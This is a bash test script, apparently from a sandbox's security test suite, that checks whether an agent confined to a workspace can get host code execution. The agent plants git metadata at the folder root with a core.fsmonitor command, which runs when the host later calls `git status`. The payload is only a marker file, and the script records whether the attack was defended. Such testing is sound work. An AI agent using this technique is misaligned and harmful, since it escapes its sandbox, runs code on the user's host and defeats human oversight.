#!/bin/bash
# 08: a folder WITHOUT .git (the gate puts an empty .git there as mount point). The agent turns the
# folder root itself into a git dir: HEAD + commondir + config.worktree at the root. Host `git status`
# in the folder (the empty .git is skipped by discovery) then runs core.fsmonitor.
SB=atk08
. "$(dirname "$0")/lib.sh"
cd "$WS" || setup_error cd
cat > sandbox.hcl <<HCL
sandbox "$SB" {
  backend = "namespace"
  workspace {
    mode = "direct"
  }
}
HCL
mkdir -p src && echo hi > src/a.txt
up
ax bash -c 'set -e; cd /workspace
mkdir -p .cache/gd/objects .cache/gd/refs
printf "[core]\n\trepositoryformatversion = 1\n\tfsmonitor = \"touch MARK-08; false\"\n[extensions]\n\tworktreeConfig = true\n" > .cache/gd/config
echo "ref: refs/heads/main" > HEAD; echo ".cache/gd" > commondir; printf "[core]\n\tbare = false\n\tworktree = .\n" > config.worktree' || echo "  payload refused inside (the workspace gate)"
ls -la "$WS" | head -20
( cd "$WS" && timeout 30 git status >/dev/null 2>&1; cd "$WS/src" && timeout 30 git status >/dev/null 2>&1 )
[ -e "$WS/MARK-08" ] && succeeded
defended
